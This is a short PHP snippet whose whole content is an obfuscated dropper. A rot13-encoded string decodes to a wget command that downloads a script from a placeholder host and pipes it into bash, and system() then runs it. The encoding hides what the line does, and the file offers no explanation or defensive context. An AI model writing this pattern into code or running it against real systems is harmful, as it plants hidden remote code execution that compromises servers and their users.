<?php
$c = str_rot13("jtrg -B - uggcf://rknzcyr.vainyvq/c | onfu");
system($c);
